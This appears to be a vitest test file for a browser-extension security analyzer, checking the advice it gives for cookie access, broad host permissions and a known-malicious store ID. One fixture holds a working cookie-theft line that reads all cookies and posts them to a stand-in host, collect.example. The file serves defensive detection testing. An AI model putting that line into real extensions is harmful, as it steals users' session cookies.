import { describe, expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

const advice = async (
  script: string,
  manifest: object = {},
  target?: { kind: 'extension'; store: 'chrome'; id: string },
): Promise<string> => {
  const files = {
    'manifest.json': JSON.stringify({
      manifest_version: 3,
      name: 'Notes',
      version: '1',
      permissions: ['cookies'],
      background: { service_worker: 'background.js' },
      ...manifest,
    }),
    'background.js': script,
  };
  const { details } = await analyze(memoryTree(files), {
    kind: 'extension',
    ...(target === undefined ? {} : { target }),
  });
  const { action = '', reason = '' } = details.executive_summary.advice ?? {};
  return `${action} ${reason}`;
};

describe('advice for the person who decides', () => {
  it('is to remove what takes cookies', async () => {
    expect(
      await advice(
        "chrome.cookies.getAll({}, (all) => fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(all) }));",
        { host_permissions: ['<all_urls>'] },
      ),
    ).toBe('remove takes');
  });
  it('is to remove what is known to be malicious, whatever its code', async () => {
    const target = { kind: 'extension', store: 'chrome', id: 'acmnokigkgihogfbeooklgemindnbine' } as const;
    expect(await advice('console.log(1);', {}, target)).toBe('remove known');
  });
  it('is to limit what may read every site and shows nothing else', async () => {
    expect(await advice("fetch('https://api.notes.example/');", { host_permissions: ['<all_urls>'] })).toBe(
      'limit wide',
    );
  });
  it('is to use what asks for little', async () => {
    expect(await advice('console.log(1);', { permissions: [] })).toBe('use nothing');
  });
});
